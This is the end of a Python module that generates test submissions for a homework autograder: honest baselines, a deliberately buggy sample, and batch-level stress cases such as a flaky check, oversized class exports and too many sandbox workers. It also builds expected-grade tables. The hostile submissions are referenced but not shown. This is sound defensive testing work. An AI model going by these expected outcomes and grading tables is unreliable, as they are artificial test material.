    Attack("zz-honest-baseline", "the reference LabRNN and the bare starter LabLLM"),
    Attack("zz-honest-vocab-bug", "the bug-vocab-threshold sample's LabRNN (min_freq taken "
           "as exclusive) and the bare starter LabLLM", lost=("lab1b.min_freq",)),
)
HONEST_EDITS = {"zz-honest-vocab-bug": next(
    s for s in SAMPLES if s.name == "bug-vocab-threshold").edits}


def build_corpus(out: Path, targets: Targets) -> list[Path]:
    """Write one folder per attack and honest submission under ``out`` (code.zip or the
    notebooks, and a plain report.pdf)."""
    report = _report(Sample("hostile", "a homework report"))
    written = []
    for attack in (*ATTACKS, *HONEST):
        folder = out / attack.name
        folder.mkdir(parents=True)
        if attack.folder is not None:
            attack.folder(folder, targets)
        else:
            notebooks = _notebooks(attack, targets)
            if attack.name in HONEST_EDITS:
                notebooks["LabRNN.ipynb"] = _lab_rnn(HONEST_EDITS[attack.name])
            files = attack.archive(notebooks) if attack.archive else {"code.zip": _zip(notebooks)}
            for name, data in files.items():
                (folder / name).write_bytes(data)
        (folder / "report.pdf").write_bytes(attack.report() if attack.report else report)
        written.append(folder)
    return written


def _checks(ids: tuple[str, ...], rubric: Rubric) -> list[str]:
    """Check ids for item ids (every check of the item) and check ids."""
    items = {item.item_id: item for item in rubric.items if not item.manual}
    return sorted(c for i in ids for c in (items[i].checks if i in items else (i,)))


def expected(rubric: Rubric | None = None) -> dict[str, dict]:
    """Per submission: what it does, the checks it loses (its attack's, and the bare
    starter LabLLM's), and the automatic points it keeps."""
    rubric = rubric or Rubric.load(RUBRIC_FILE)
    auto = [item for item in rubric.items if not item.manual]
    worth = {c: item.check_points(c) for item in auto for c in item.checks}
    table = {}
    for attack in (*ATTACKS, *HONEST):
        if attack.lost == "all":
            own = lost = sorted(worth)
        else:
            own = [c for c in _checks(attack.said_by or attack.lost, rubric)
                   if c not in attack.kept]
            lost = sorted({*_checks(attack.lost, rubric), *_checks(LAB2_ALL, rubric)}
                          - set(attack.kept) - set(attack.earns))
        table[attack.name] = {
            "attack": attack.attack, "lost_checks": lost, "attack_checks": own,
            "auto_points": round(sum(worth.values()) - sum(worth[c] for c in lost), 4),
            "status": attack.status, "message": attack.message, "error": attack.error,
            "known_limit": KNOWN_LIMIT if attack.kept else "", "note": attack.note,
            "batch": "corpus",
        }
    for batch in BATCH_ATTACKS:
        table[batch.name] = {"attack": batch.attack, "batch": "own", **batch.outcome}
    return table


# ------------------------------------------------------ attacks on a batch as a whole

# Each is graded in a batch of its own with the engine's toy homework (fast), through the
# command line, as staff would run it; ``outcome`` is what must happen.


def _flaky_check(root: Path) -> tuple[Path, dict[str, str]]:
    """Two students; the check judging one of them raises on its first run (a bug that
    is then fixed): an internal error, never a grade, graded on the next run."""
    folder = root / "class"
    for student in ("ann", "bob"):
        build_submission("perfect", root / "build" / student).rename(
            folder / student if folder.exists() else _mkdir(folder) / student)
    return folder, {"TOY_FLAKY_STUDENTS": "bob", "TOY_FLAKY_DIR": str(_mkdir(root / "seen"))}


def _class_export(blobs: Mapping[str, int]) -> Callable[[Path], tuple[Path, dict[str, str]]]:
    """A course-site export: per student (id -> KiB of incompressible data beside the
    work) the toy homework's code.zip, report and that data file."""
    def build(root: Path) -> tuple[Path, dict[str, str]]:
        import os

        good = build_submission("perfect", root / "good")
        export = root / "export.zip"
        with zipfile.ZipFile(export, "w", zipfile.ZIP_DEFLATED) as zf:
            for student, kib in blobs.items():
                zf.write(good / "code.zip", f"{student}_code.zip")
                zf.write(good / "report.pdf", f"{student}_report.pdf")
                zf.writestr(f"{student}_data.bin", os.urandom(kib << 10))
        return export, {}
    return build


def _one_student(root: Path) -> tuple[Path, dict[str, str]]:
    return build_submission("perfect", root / "in"), {}


def _mkdir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


@dataclass(frozen=True)
class BatchAttack:
    """An attack on a batch as a whole: its input, the flags it is graded with, and what
    must happen (``outcome``: ``exit`` code, students ``graded``, ``refused`` (id -> text of
    the reason), ``internal_errors``, text the command's ``stderr`` holds, and for
    ``rerun``, the same again on a second run)."""

    name: str
    attack: str
    build: Callable[[Path], tuple[Path, dict[str, str]]]  # -> (input, environment)
    flags: tuple[str, ...]
    outcome: Mapping[str, object]
    plugin: str = "engine_scenarios.toy_plugin:plugin"
    as_root: bool = False  # the outcome assumes a grader under root with bwrap


BATCH_ATTACKS = (
    BatchAttack("flaky-check", "a check raises on its first run (a bug, fixed for the next "
                "run) while judging one of two students", _flaky_check, (),
                {"exit": 3, "graded": ["ann"], "refused": {}, "internal_errors": ["bob"],
                 "stderr": "1 internal error(s): bob",
                 "rerun": {"exit": 0, "graded": ["bob"], "internal_errors": []}},
                plugin="engine_scenarios.flaky_plugin:plugin"),
    BatchAttack("class-export-caps", "a class export of 3 x 0.6 MiB (1.8 MiB unpacked) "
                "with --zip-max-mb 1: over the cap in total, within it per student",
                _class_export({"Ann_101": 600, "Ben_102": 600, "Cy_103": 600}),
                ("--zip-max-mb", "1"),
                {"exit": 0, "graded": ["Ann_101", "Ben_102", "Cy_103"], "refused": {},
                 "internal_errors": []}),
    BatchAttack("class-export-one-over", "a class export in which one student's part "
                "(1.5 MiB) is over --zip-max-mb 1", _class_export({"Ann_101": 100,
                                                                   "Big_104": 1500}),
                ("--zip-max-mb", "1"),
                {"exit": 0, "graded": ["Ann_101", "Big_104"],
                 "refused": {"Big_104": "declares 1.5 MiB unpacked, more than the cap of "
                                        "1.0 MiB (--zip-max-mb)"},
                 "internal_errors": []}),
    BatchAttack("workers-above-pool", "--job-workers 33 under root with bwrap, one more "
                "than the grader's 32 sandbox users (it used to wait forever; --workers, the "
                "submissions at once, is capped to fit the pool)", _one_student,
                ("--job-workers", "33"),
                {"exit": 2, "graded": [], "refused": {}, "internal_errors": [],
                 "stderr": "--job-workers 33 is more than the 32 sandbox users"},
                as_root=True),
)


KNOWN_LIMIT = ("a check kept here reads what the student's kernel reports; tokenizers, "
               "datasets, collated batches and trained models count only as measured from "
               "saved files by a job the notebook cannot reach.")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path, nargs="?", help="folder to write the corpus into")
    parser.add_argument("--grader-out", type=Path, default=Path("grading-output").resolve())
    parser.add_argument("--canary", type=Path, default=Path("/tmp/hw3-hostile-canary.txt"))
    parser.add_argument("--expected", action="store_true", help=f"rewrite {EXPECTED_FILE}")
    args = parser.parse_args(argv)
    if args.expected:
        EXPECTED_FILE.write_text(json.dumps(expected(), indent=2) + "\n")
    if args.out:
        for folder in build_corpus(args.out, Targets(args.grader_out, args.canary)):
            print(folder)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
